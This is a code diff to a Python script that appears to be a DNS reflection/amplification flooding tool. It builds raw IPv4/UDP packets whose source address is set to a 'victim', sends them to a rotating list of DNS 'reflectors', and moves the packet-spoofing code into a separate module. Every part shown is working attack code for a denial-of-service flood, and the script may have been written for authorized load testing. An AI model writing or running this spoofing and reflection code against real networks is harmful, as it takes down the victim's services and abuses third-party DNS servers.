@@ -15,21 +15,13 @@ import argparse
 import json
 import random
 import socket
-import struct
 import sys
 import time
 
 import dns.message
 
 import scope
-
-
-def packet(source: str, target: str, sport: int, payload: bytes) -> bytes:
-    """An IPv4/UDP packet to port 53 (the UDP checksum left at zero, as IPv4 allows)."""
-    udp_len = 8 + len(payload)
-    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
-                     socket.inet_aton(source), socket.inet_aton(target))
-    return ip + struct.pack("!HHHH", sport, 53, udp_len, 0) + payload
+import spoof
 
 
 def main(argv: list[str]) -> int:
@@ -63,7 +55,7 @@ def main(argv: list[str]) -> int:
             time.sleep(min(wait, deadline - time.monotonic()))
             continue
         target = reflectors[sent % len(reflectors)]
-        wire = packet(victim, target, rng.randrange(1024, 65536), payload)
+        wire = spoof.udp_packet(victim, target, rng.randrange(1024, 65536), 53, payload)
         sock.sendto(wire, (target, 0))
         sent, size = sent + 1, size + len(wire)
     print(json.dumps({"sent": sent, "bytes": size, "seconds": round(time.monotonic() - t0, 3)}))
